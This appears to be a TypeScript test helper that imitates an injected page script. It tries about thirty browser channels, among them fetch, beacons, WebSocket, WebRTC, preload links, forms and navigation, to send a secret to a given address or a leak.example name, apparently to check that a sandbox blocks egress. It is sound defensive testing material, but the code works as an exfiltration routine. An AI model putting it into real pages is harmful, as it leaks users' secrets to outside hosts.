/**
 * Runs in the page, as a script that somebody managed to inject: tries every way out that a browser has.
 *
 * Each attempt stands alone: that one of them throws must not keep the next from being tried. `address` answers if
 * anything reaches it; `secret` is what would leak. Gives what was tried.
 */
export async function tryToLeak([address, secret]: readonly [string, string]): Promise<readonly string[]> {
  const url = `http://${address}/${secret}`
  const name = `${secret}.leak.example`
  const tried: string[] = []
  const attempt = async (what: string, act: () => unknown): Promise<void> => {
    tried.push(what)
    try {
      await act()
    } catch {
      // Refused: the next way.
    }
  }
  const add = (
    tag: string,
    attributes: Readonly<Record<string, string>>,
    parent: Element = document.body,
  ): HTMLElement => {
    const element = document.createElement(tag)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    parent.append(element)
    return element
  }
  const soon = <T>(promise: Promise<T>): Promise<unknown> =>
    Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 400))])

  await attempt('fetch', () => soon(fetch(url, { mode: 'no-cors' })))
  await attempt('fetch https', () => soon(fetch(`https://${name}/`, { mode: 'no-cors' })))
  await attempt('beacon', () => navigator.sendBeacon(url, secret))
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest()
    request.open('POST', url)
    request.send(secret)
  })
  await attempt('WebSocket', () => new WebSocket(`ws://${address}:8080/${secret}`))
  await attempt('EventSource', () => new EventSource(url))
  await attempt('image', () => add('img', { src: url }))
  await attempt('style', () => add('link', { rel: 'stylesheet', href: url }))
  await attempt('script', () => add('script', { src: url }))
  await attempt('font', () => soon(new FontFace('leak', `url(${url})`).load()))
  await attempt('video', () => add('video', { src: url, autoplay: '' }))
  await attempt('object', () => add('object', { data: url }))
  await attempt('iframe', () => add('iframe', { src: url }))
  await attempt('dns-prefetch', () => add('link', { rel: 'dns-prefetch', href: `//${name}` }, document.head))
  await attempt('preconnect', () => add('link', { rel: 'preconnect', href: `http://${address}:8080` }, document.head))
  await attempt('prefetch', () => add('link', { rel: 'prefetch', href: url }, document.head))
  await attempt('preload', () => add('link', { rel: 'preload', as: 'image', href: url }, document.head))
  await attempt('modulepreload', () => add('link', { rel: 'modulepreload', href: url }, document.head))
  await attempt('speculation rules', () => {
    const rules = add('script', { type: 'speculationrules' })
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] })
  })
  await attempt('WebRTC to an address', async () => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `stun:${address}:3478` }, { urls: `stun:${address}:19302` }],
    })
    peer.createDataChannel(secret)
    await peer.setLocalDescription(await peer.createOffer())
  })
  await attempt('WebRTC to a name', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${name}:3478` }] })
    peer.createDataChannel(secret)
    await peer.setLocalDescription(await peer.createOffer())
  })
  await attempt('WebTransport', () => soon(new WebTransport(`https://${address}:443/${secret}`).ready))
  await attempt('worker', () => new Worker(url))
  await attempt('window.open', () => window.open(url))
  await attempt('ping of a link', () => add('a', { href: '#/', ping: url }).click())
  await attempt('download', () => add('a', { href: url, download: secret }).click())
  await attempt('form', () => {
    const form = add('form', { action: url, method: 'post' }) as HTMLFormElement
    add('input', { name: 'secret', value: secret }, form)
    form.submit()
  })
  await attempt('navigation', () => window.location.assign(url))
  await new Promise((resolve) => setTimeout(resolve, 2_500))
  return tried
}
